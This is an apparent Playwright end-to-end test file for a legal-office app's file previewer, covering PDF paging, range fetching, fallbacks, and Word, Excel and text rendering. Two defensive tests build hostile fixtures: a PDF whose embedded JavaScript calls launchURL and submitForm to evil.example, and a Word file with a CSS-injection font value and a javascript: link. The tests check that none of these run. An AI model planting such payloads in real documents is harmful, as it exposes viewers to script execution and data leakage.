import fs from 'node:fs'
import path from 'node:path'
import { documents } from '@contract/document'
import { minutes } from '@contract/duration'
import { anOffice } from '@test/factories/approval'
import { aDocument } from '@test/factories/document'
import { aDocx, anXlsx, leadingOut } from '@test/factories/office-file'
import { eventually } from '@test/support/eventually'
import { root } from '@test/support/paths'
import { signedIn } from '@test/support/test-client'
import { PDFDocument as PDFLib, PDFName, PDFString } from 'pdf-lib'
import PDFDocument from 'pdfkit'
import type { Page } from 'playwright-core'
import { isCalm, sees, stage, top } from './support'

const on = stage()

/**
 * A paper of so many pages, each with its number in words.
 * @param padding bytes more that a page takes
 */
function aPaper(pages: number, padding = 0): Promise<Buffer> {
  // Large enough to be fetched in parts.
  const paper = new PDFDocument({ size: 'A4', autoFirstPage: false, compress: false })
  const words = 'whereas the parties agree '.repeat(60)
  const chunks: Buffer[] = []
  for (let no = 1; no <= pages; no++) {
    paper.addPage().fontSize(24).text(`Clause number ${no}`).fontSize(12).text(words)
    if (padding > 0) paper.addContent(`%${' '.repeat(padding)}`)
  }
  return new Promise((resolve) => {
    paper.on('data', (chunk: Buffer) => chunks.push(chunk)).on('end', () => resolve(Buffer.concat(chunks)))
    paper.end()
  })
}

/** @param missing what the network does not bring */
async function shown(
  fileName: string,
  content: Buffer,
  { isConfidential = false } = {},
  before?: () => void,
  missing?: string,
) {
  const { director } = await anOffice(on.app)
  const me = await signedIn(on.app, director)
  const { documentId } = await aDocument(me, { fileName, content, isConfidential })
  const page = await on.phoneOf(director, '/init/init')
  if (before) await page.addInitScript(before)
  if (missing) await page.route(missing, (route) => route.abort())
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  await page.goto(`/file/preview/preview?id=${documentId}&type=document`)
  return { page, asked, me, documentId }
}

const canvases = (page: Page) => top(page).locator('.viewer-pdf__canvas').count()
/** Chunks by what they hold. */
const chunkOf = (mark: string) =>
  fs
    .readdirSync(path.join(root, 'dist/h5/js'))
    .filter(
      (name) => name.endsWith('.js') && fs.readFileSync(path.join(root, 'dist/h5/js', name), 'utf8').includes(mark),
    )
const PDF_MARK = 'InvalidPDFException'
const WORD_MARK = 'docx-wrapper'

test('a PDF is drawn page by page, at most 12 at a time, fetched in ranges, searchable and selectable', async () => {
  const { page, asked } = await shown('合同.pdf', await aPaper(120), { isConfidential: true })
  await sees(page, '第 1 / 120 页')
  await top(page).locator('.textLayer').first().waitFor()
  const box = top(page).locator('.file-view__box')
  for (let screen = 0; screen < 30; screen++) {
    await box.evaluate((element) => element.scrollBy(0, element.clientHeight))
    await page.waitForTimeout(30)
    expect(await canvases(page)).toBeLessThanOrEqual(12)
  }
  await eventually(
    () => canvases(page),
    (count) => count > 1,
  )
  expect(asked.filter((url) => url.includes('/v3/storage/')).length).toBeGreaterThan(2)
  await top(page).getByRole('button', { name: '查找文字' }).click()
  await top(page).getByPlaceholder('查找文字').fill('clause number 97')
  await sees(page, '1 页')
  await top(page).locator('.textLayer mark').waitFor({ state: 'attached' })
  expect(await top(page).locator('.textLayer mark').textContent()).toBe('Clause number 97')
  // The viewer's name is in the pages themselves: nothing lies over them.
  expect(await top(page).locator('.watermark__words').count()).toBe(0)
  expect(asked.some((url) => url.includes('/shown/'))).toBe(true)
})

test('a long document can be read on after its link expired', async () => {
  const { page, asked } = await shown('卷宗.pdf', await aPaper(12, 400_000))
  await sees(page, '第 1 / 12 页')
  await top(page).locator('.textLayer').first().waitFor()
  const addresses = () => new Set(asked.filter((url) => url.includes('/v3/storage/'))).size
  expect(addresses()).toBe(1)
  on.app.clock.pass(minutes(25))
  await top(page)
    .locator('.file-view__box')
    .evaluate((element) => element.scrollTo(0, element.scrollHeight))
  await top(page).locator('.textLayer').getByText('Clause number 12').waitFor()
  expect(addresses()).toBe(2)
})

test.each([
  ['Array.fromAsync', () => Reflect.deleteProperty(Array, 'fromAsync')],
  ['ArrayBuffer.transferToFixedLength', () => Reflect.deleteProperty(ArrayBuffer.prototype, 'transferToFixedLength')],
])('an engine without %s reads a PDF with the older build of pdf.js', async (_, before) => {
  const { page, asked } = await shown('合同.pdf', await aPaper(3), {}, before)
  await sees(page, '第 1 / 3 页')
  await top(page).locator('.textLayer').first().waitFor()
  expect(asked.filter((url) => /pdfjs.*\.mjs/.test(url))).toEqual([])
})

test('a PDF worker that cannot be fetched is reported and starts on 重试', async () => {
  const { page } = await shown('合同.pdf', await aPaper(3), {}, undefined, '**/pdf.worker.min.mjs')
  await sees(page, '文件没有取到，请检查网络')
  await page.unroute('**/pdf.worker.min.mjs')
  await top(page).getByRole('button', { name: '重试' }).click()
  await sees(page, '第 1 / 3 页')
})

test('a PDF with active content shows no dialog, sends no request and runs nothing', async () => {
  const file = await PDFLib.load(await aPaper(1))
  const run = 'app.alert("ran"); app.launchURL("https://evil.example/js"); this.submitForm("https://evil.example/form")'
  const script = file.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(run) })
  const visit = file.context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of('https://evil.example/uri') })
  file.catalog.set(PDFName.of('OpenAction'), script)
  file.catalog.set(PDFName.of('AA'), file.context.obj({ WC: script, DP: script }))
  file.catalog.set(PDFName.of('Names'), file.context.obj({ JavaScript: { Names: [PDFString.of('all'), script] } }))
  file.getPage(0).node.set(PDFName.of('AA'), file.context.obj({ O: script, C: visit }))
  const link = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], A: visit }
  file.getPage(0).node.set(PDFName.of('Annots'), file.context.obj([link]))
  const { page, asked } = await shown('带脚本.pdf', Buffer.from(await file.save()), {}, () => {
    const ran = (globalThis as unknown as { ran: string[] }).ran ?? []
    Object.assign(globalThis, { ran, app: { alert: (words: string) => ran.push(words) } })
    for (const name of ['alert', 'confirm', 'prompt', 'open', 'print'] as const)
      Object.assign(globalThis, { [name]: () => ran.push(name) })
  })
  await sees(page, '第 1 / 1 页')
  await top(page).locator('.textLayer').getByText('Clause number 1').waitFor()
  await top(page)
    .locator('.textLayer')
    .click({ position: { x: 200, y: 300 } })
  await isCalm(page)
  expect(await page.evaluate(() => (globalThis as unknown as { ran: string[] }).ran)).toEqual([])
  expect(asked.filter((url) => !url.startsWith(on.app.address) && !url.startsWith('blob:'))).toEqual([])
  expect(asked.filter((url) => /sandbox|quickjs/.test(url))).toEqual([])
  expect(new URL(page.url()).pathname).toBe('/file/preview/preview')
})

test('a file that is no PDF says so and can be saved instead', async () => {
  const { page } = await shown('坏了.pdf', Buffer.from('%PDF-1.7\nnothing in it'))
  await sees(page, '文件已损坏，读不出内容')
  await top(page).getByRole('button', { name: '下载' }).waitFor()
})

test('a Word document shows its text and styles, runs nothing and fetches nothing', async () => {
  const LINK = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const body = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${LINK}"><w:body><w:p><w:r><w:t>委托代理合同</w:t></w:r></w:p><w:p><w:hyperlink r:id="rId9"><w:r><w:rPr><w:rFonts w:ascii="x;background:url(https://evil.example/font)"/></w:rPr><w:t>点这里</w:t></w:r></w:hyperlink></w:p><w:altChunk r:id="rId9"/></w:body></w:document>`
  const { page, asked } = await shown(
    '委托合同.docx',
    aDocx([], {
      'word/document.xml': body,
      'word/_rels/document.xml.rels': leadingOut('rId9', 'hyperlink', 'javascript:document.title=1'),
    }),
  )
  const frame = top(page).frameLocator('.viewer-word')
  await frame.getByText('委托代理合同').waitFor()
  expect(await frame.getByText('点这里').count()).toBe(1)
  expect(await frame.locator('a[href]:not([href^="#"]), script, iframe').count()).toBe(0)
  expect(await top(page).locator('.viewer-word').getAttribute('sandbox')).toBe('allow-same-origin')
  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
})

test('an Excel file is a table with its figures as written', async () => {
  const rows = Array.from({ length: 300 }, (_, at): (string | number)[] => [`第 ${at + 1} 笔`, at * 1.5])
  const { page } = await shown('费用.xlsx', anXlsx([['名称', '金额'], ...rows]))
  await top(page).getByRole('cell', { name: '第 1 笔' }).waitFor()
  await top(page).getByRole('cell', { name: '1.5', exact: true }).waitFor()
  const box = top(page).locator('.file-view__box')
  await box.evaluate((element) => element.scrollTo(0, element.scrollHeight))
  await eventually(
    () => top(page).locator('.viewer-sheet tbody tr').count(),
    (count) => count > 101,
  )
})

test('a text in an older encoding is readable, and viewers are fetched for their own files only', async () => {
  const { page, asked, me, documentId } = await shown('笔录.txt', Buffer.from([0xba, 0xcf, 0xcd, 0xac]))
  await sees(page, '合同')
  await page.goto(`/file/detail/detail?documentId=${documentId}`)
  await sees(page, '笔录.txt')
  await page.goto('/workbench/workbench')
  await sees(page, '工作台')
  const heavy = [...chunkOf(PDF_MARK), ...chunkOf(WORD_MARK)]
  expect(heavy.length).toBeGreaterThanOrEqual(3)
  expect(heavy.filter((name) => asked.some((url) => url.includes(name)))).toEqual([])
  expect(asked.filter((url) => url.includes('/static/pdfjs/'))).toEqual([])
  expect((await me.call(documents.preview, { id: documentId })).watermark).toBeNull()
})
